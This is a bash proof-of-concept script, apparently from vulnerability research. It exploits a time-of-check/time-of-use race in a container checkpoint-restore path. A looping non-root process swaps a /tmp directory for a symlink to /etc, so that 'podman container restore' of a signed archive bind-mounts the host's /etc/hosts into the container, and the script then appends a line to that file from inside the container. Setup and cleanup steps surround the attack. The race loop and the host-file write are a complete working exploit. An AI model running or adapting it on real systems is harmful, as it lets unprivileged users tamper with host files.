#!/bin/bash
# attack30i: check-then-use of container_own() by a LOCAL NON-ROOT USER (node policy unchanged, SIGNED export).
# The bind source /tmp/attack30i-u/overlay-containers/<ID>/userdata/hosts passes while /tmp/attack30i-u does not
# exist: /tmp is root's and sticky ("not movable"), a missing component is "judged by what is above it", and
# _links_below answers "not a link" for a missing prefix. The user (attack30i, made here, removed after) then
# makes /tmp/attack30i-u/.../userdata -> /etc in a loop (its own directory: fs.protected_symlinks does not apply).
set -u; export CONTAINERS_CONF=/var/tmp/attack30i/dcontainers.conf  # the default policy: rt-default.sh, dtrust
D=/var/tmp/attack30i; H=$(dirname "$(readlink -f "$0")"); cd $D; cp /etc/hosts $D/hosts.before
id attack30i >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin attack30i
CID=$(/usr/lib/gpuckpt/venv/bin/python3 $H/edit30i.py src.tar.zst /dev/null nosuchmode | cut -d' ' -f1)
/usr/lib/gpuckpt/venv/bin/python3 $H/edit30i.py src.tar.zst raceuser.tar.zst racehosts /tmp/attack30i-u
runuser -u attack30i -- /usr/bin/python3 -c "
import os, shutil, time
d = '/tmp/attack30i-u/overlay-containers/$CID'
end = time.time() + ${RACE_S:-200}
while time.time() < end:
    shutil.rmtree('/tmp/attack30i-u', ignore_errors=True)
    time.sleep(${ABSENT_S:-0.03})
    os.makedirs(d); os.symlink('/etc', d + '/userdata')
    time.sleep(${PRESENT_S:-0.1})
shutil.rmtree('/tmp/attack30i-u', ignore_errors=True)
" & FLIP=$!
sleep 1; for n in 1 2 3 4 5; do x=$(stat -c '%U %F %N' /tmp/attack30i-u /tmp/attack30i-u/overlay-containers/$CID/userdata 2>/dev/null | tr '\n' ' '); [ -n "$x" ] && { echo "the user's tree: $x"; break; }; sleep 0.05; done
for i in $(seq 1 ${TRIES:-15}); do
  podman rm -f -t 0 attack30i-src >/dev/null 2>&1
  out=$(timeout 100 podman container restore --import raceuser.tar.zst 2>&1 | tail -1 | cut -c1-260)
  m=$(podman exec attack30i-src grep " /etc/hosts " /proc/self/mountinfo 2>&1 | cut -c1-200)
  echo "try $i ($(date -u +%T)): $out | /etc/hosts: $m"
  if echo "$m" | grep -q "/etc/hosts .* ext4"; then
    podman exec attack30i-src sh -c 'echo "# attack30i-from-container" >> /etc/hosts'
    grep -q attack30i-from-container /etc/hosts && echo "HOST FILE /etc/hosts written from a container restored from a SIGNED archive (default trust policy), a non-root user's race, try $i"
    break
  fi
done
kill $FLIP; wait $FLIP 2>/dev/null; rm -rf /tmp/attack30i-u
cp $D/hosts.before /etc/hosts; cmp /etc/hosts $D/hosts.before && echo "host /etc/hosts put back"
podman rm -f -t 0 attack30i-src >/dev/null 2>&1
userdel attack30i && echo "user attack30i removed"
